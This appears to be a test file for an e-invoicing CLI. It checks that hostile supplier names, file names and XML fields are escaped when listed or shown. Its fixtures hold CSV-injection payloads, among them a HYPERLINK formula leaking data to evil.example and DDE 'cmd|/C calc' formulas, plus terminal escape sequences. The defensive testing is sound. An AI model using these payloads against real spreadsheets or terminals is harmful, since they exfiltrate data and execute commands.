// Issue 25, point 8: text from outside never drives the terminal nor a spreadsheet. Supplier invoices whose names
// carry ESC sequences (colours, erase), BEL, an OSC window title written as `&#27;]0;…&#7;` (which the XML parser
// accepts), a bidi override, TAB/CR/LF, and cells that start `=HYPERLINK(…)` / `@…`, are imported and listed through
// the CLI (local mode): the table, piped (TSV) or on a terminal, holds no raw control character, one line per row,
// formulas neutralised with a leading apostrophe, negative amounts left as numbers; `--csv` parses back (csv-parse) to
// the same cells; `--json` stays the raw data; `recibidos show` and the import findings, for hostile file names too,
// are escaped alike (the sanitiser src/cli/safe-text.ts: `\x1b`, `\x07`, `\u202e`, `\t`, `\r`, `\n`).
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadP12 } from '../src/core/sign/p12.js';
import { createTestP12 } from '../src/core/sign/testcert.js';
import { signCanonical } from '../src/core/sign/xades.js';
import { supplierComprobante, TEST_SUPPLIERS } from '../src/emulator/suppliers.js';
import { runCli, tempDir } from './helpers/cli.js';
import { makeTestIssuer } from './helpers/issuer.js';

const root = tempDir('fecr-hostile-');
afterAll(() => rmSync(root, { recursive: true, force: true }));
const test = makeTestIssuer();
const env = { HOME: root, FECR_DATA_DIR: join(root, 'data'), FECR_NO_KEYCHAIN: '1' };
const work = join(root, 'work');
const fecr = (args: string[], opts: { tty?: boolean } = {}) => runCli(args, { env, cwd: work, ...opts });

/** A raw control character (C0 but TAB and LF, which tables and lines use as structure; DEL; C1) or a bidi override. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

// The hostile supplier name, as written in the XML: raw ESC and BEL, the rest as character references.
const NAME_XML = 'ACME \x1b[2J\x1b[31mROJO\x1b[0m\x07 &#27;]0;pwned&#7; \u202eTXT.EXE &#9;tab&#13;cr&#10;error: fake line';
// What the parser reads from it (the data `--json` carries).
const NAME = 'ACME \x1b[2J\x1b[31mROJO\x1b[0m\x07 \x1b]0;pwned\x07 \u202eTXT.EXE \ttab\rcr\nerror: fake line';
// What fecr prints for it.
const NAME_SHOWN = 'ACME \\x1b[2J\\x1b[31mROJO\\x1b[0m\\x07 \\x1b]0;pwned\\x07 \\u202eTXT.EXE \\ttab\\rcr\\nerror: fake line';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"clic aqui")';

let signedClave = '';
let tamperedClave = '';

/** A signed FE of test supplier 3101987654 to our issuer; its name `nombre` (XML-legal characters only). */
function signedInvoice(nombre: string): { clave: string; xml: string } {
  const base = TEST_SUPPLIERS[0]!;
  const at = new Date();
  const built = supplierComprobante({ receptor: { tipo: '02', numero: test.issuer.identificacion, nombre: 'RECEPTOR' }, kind: 'FE' }, { ...base, nombre }, 7, at);
  const creds = loadP12(createTestP12({ id: base.identificacion, type: base.tipoIdentificacion, pin: '1234', name: 'PROVEEDOR' }), '1234', at);
  return { clave: built.doc.clave, xml: signCanonical(built.unsignedXml, creds, { signingTime: at, newId: () => Math.random().toString(16).slice(2, 10) }) };
}

beforeAll(async () => {
  mkdirSync(join(work, 'entrada'), { recursive: true });
  writeFileSync(join(work, 'issuer.json'), JSON.stringify(test.issuer));
  const reg = await fecr(['emisor', 'register', 'issuer.json']);
  expect(reg.code, reg.stderr).toBe(0);

  // 1. Signed and valid (pendiente): a bidi override, TAB and LF in the supplier's registered name.
  const signed = signedInvoice('CAFETAL \u202eLIMITADA\tS.A.\nerror: fake');
  signedClave = signed.clave;
  writeFileSync(join(work, 'entrada', '1-firmada.xml'), signed.xml);
  // 2. The same bytes with the hostile name (refused as tampered, stored as invalido and listed with it).
  const other = signedInvoice('OTRO PROVEEDOR');
  tamperedClave = other.clave;
  writeFileSync(join(work, 'entrada', '2-nombre.xml'), other.xml.replace(/<Nombre>OTRO PROVEEDOR<\/Nombre>/, `<Nombre>${NAME_XML}</Nombre>`));
  // 3. Cells that start as formulas: the clave (the list's first column) and TotalImpuesto; a negative total.
  const third = signedInvoice('TERCERO');
  writeFileSync(
    join(work, 'entrada', '3-formulas.xml'),
    third.xml
      .replace(/<Clave>\d+<\/Clave>/, `<Clave>${FORMULA.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</Clave>`)
      .replace(/<TotalImpuesto>[^<]*</, "<TotalImpuesto>@SUM(1+1)*cmd|' /C calc'!A0<")
      .replace(/<TotalComprobante>[^<]*</, '<TotalComprobante>-1500.00000<'),
  );
  const imp = await fecr(['recibidos', 'import', 'entrada']);
  expect(imp.stdout).toContain('imported 3 files: 1 valid, 2 refused');
  expect(imp.code).toBe(1);
}, 90_000);

describe('recibidos list with hostile supplier text', () => {
  it('piped (TSV): no raw control character, one line per row, formulas neutralised, negative amounts numbers', async () => {
    const rows = JSON.parse((await fecr(['recibidos', 'list', '--json'])).stdout) as unknown[];
    expect(rows).toHaveLength(3);
    const r = await fecr(['recibidos', 'list']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    const lines = r.stdout.replace(/\n$/, '').split('\n');
    expect(lines).toHaveLength(1 + rows.length);
    const cells = lines.map((l) => l.split('\t'));
    for (const c of cells) expect(c).toHaveLength(9);
    const byClave = new Map(cells.map((c) => [c[0], c]));
    expect(byClave.get(tamperedClave)?.[3]).toBe(`3101987654 ${NAME_SHOWN}`);
    expect(byClave.get(signedClave)?.[3]).toBe('3101987654 CAFETAL \\u202eLIMITADA\\tS.A.\\nerror: fake');
    expect(byClave.get(signedClave)?.[1]).toBe('pendiente');
    const formula = cells.find((c) => c[0]!.includes('HYPERLINK'))!;
    expect(formula[0]).toBe(`'${FORMULA}`);
    expect(formula[5]).toBe('-1500.00000');
    expect(formula[6]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
  });

  it('on a terminal: aligned columns, no raw control character, one line per row', async () => {
    const r = await fecr(['recibidos', 'list'], { tty: true });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).not.toContain('\t');
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(2 + 3);
    expect(r.stdout).toContain(NAME_SHOWN);
  });

  it('--csv: RFC 4180 that csv-parse reads back to the same cells as the TSV, formulas neutralised', async () => {
    const tsv = (await fecr(['recibidos', 'list'])).stdout.replace(/\n$/, '').split('\n').map((l) => l.split('\t'));
    const r = await fecr(['recibidos', 'list', '--csv']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.replace(/\r\n/g, '\n')).not.toMatch(RAW_CONTROL);
    // Records end with CRLF (RFC 4180), and no field holds a line break: one record per line.
    expect(r.stdout.endsWith('\r\n')).toBe(true);
    expect(r.stdout.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const records = parse(r.stdout) as string[][];
    expect(records).toEqual(tsv);
    expect(records[0]).toEqual(['clave', 'estado', 'tipo', 'emisor', 'fechaEmision', 'totalComprobante', 'totalImpuesto', 'hacienda', 'respuesta']);
    const formula = records.find((c) => c[0]!.includes('HYPERLINK'))!;
    expect(formula[0]).toBe(`'${FORMULA}`);
    expect(formula[5]).toBe('-1500.00000');
    expect(records.find((c) => c[0] === tamperedClave)?.[3]).toBe(`3101987654 ${NAME_SHOWN}`);
  });

  it('--csv and --json together: a usage error', async () => {
    const r = await fecr(['recibidos', 'list', '--csv', '--json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--csv and --json/);
  });

  it('--json stays the raw data: C0 escaped by JSON itself, DEL, C1 and bidi as \\u escapes that parse back alike', async () => {
    const r = await fecr(['recibidos', 'list', '--json']);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('\\u202eTXT.EXE');
    const rows = JSON.parse(r.stdout) as { clave: string; emisor: { nombre: string } }[];
    expect(rows.find((x) => x.clave === tamperedClave)?.emisor.nombre).toBe(NAME);
    expect(rows.find((x) => x.clave?.includes('HYPERLINK'))?.clave).toBe(FORMULA);
  });
});

describe('recibidos show and import findings with hostile text', () => {
  it('show: every field escaped, no raw control character, the hostile name on its one line', async () => {
    const r = await fecr(['recibidos', 'show', tamperedClave]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toMatch(new RegExp(`^emisor[\\t ]+3101987654 ${NAME_SHOWN.replace(/[\\[\]().*+?^$|]/g, '\\$&')}$`, 'm'));
    expect(r.stdout).not.toMatch(/^error: fake line/m);
    const signed = await fecr(['recibidos', 'show', signedClave]);
    expect(signed.stdout).toContain('CAFETAL \\u202eLIMITADA\\tS.A.\\nerror: fake');
    expect(signed.stdout).not.toMatch(/[\u202a-\u202e]/);
    // Piped, show is TSV (field, value): the one tab of a line is the separator; a tab in the text is escaped.
    for (const line of signed.stdout.trimEnd().split('\n')) expect(line.split('\t'), line).toHaveLength(2);
  });

  it('findings quoting hostile XML (an Emisor numero) and a hostile file name: escaped, one line each', async () => {
    const third = signedInvoice('CUARTO');
    const hostileFile = 'mala\x1b]0;pwned\x07\u202elmx.\tTAB\rCR\nerror: todo bien.xml';
    writeFileSync(
      join(work, hostileFile),
      third.xml.replace(/(<Emisor>[\s\S]*?<Numero>)\d+(<\/Numero>)/, `$1\x1b[2K=cmd|'/C calc'!A0&#13;$2`),
    );
    const r = await fecr(['recibidos', 'import', hostileFile]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    const lines = r.stderr.trimEnd().split('\n');
    expect(lines[0]).toBe('error: mala\\x1b]0;pwned\\x07\\u202elmx.\\tTAB\\rCR\\nerror: todo bien.xml was refused');
    expect(lines.filter((l) => l.startsWith('error:'))).toHaveLength(1);
    expect(r.stderr).toContain("ds:Signature/ds:KeyInfo: signed with the certificate of CPJ-3-101-987654, not of the Emisor \\x1b[2K=cmd|'/C calc'!A0\n");

    // Two refused files from a folder: each named on a line of its own, escaped.
    const dir = join(work, 'hostil');
    mkdirSync(dir);
    writeFileSync(join(dir, 'a\x1b[31m.xml'), '<FacturaElectronica>');
    writeFileSync(join(dir, 'b\n\u202e.xml'), 'no xml');
    const folder = await fecr(['recibidos', 'import', 'hostil']);
    expect(folder.code).toBe(1);
    expect(folder.stderr).not.toMatch(RAW_CONTROL);
    const named = folder.stderr.split('\n').filter((l) => l.endsWith('.xml:'));
    expect(named).toEqual(['hostil/a\\x1b[31m.xml:', 'hostil/b\\n\\u202e.xml:']);
  });
});
